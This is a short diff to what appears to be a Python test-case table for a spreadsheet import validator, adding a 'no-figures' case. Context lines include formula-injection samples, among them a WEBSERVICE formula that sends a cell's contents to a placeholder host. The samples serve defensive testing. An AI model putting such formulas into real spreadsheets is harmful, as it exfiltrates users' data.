@@ -129,6 +129,7 @@ CASES: dict[str, Make] = {
         STAFF, ["000203", "张三", '=WEBSERVICE("http://x/?"&A1)'], ["000204", "李四", '=HYPERLINK("http://x")']
     ),
     "no-table": facts(["随便", "写写"]),
+    "no-figures": facts(STAFF, ["000203", "张三", None]),
     "sheet-hidden": sheets("sheet", GOOD, GOOD),
     "sheet-unknown": sheets("", GOOD, [["菜", "价"]]),
     "row-skipped": facts(*GOOD, ["合计", None, 1]),
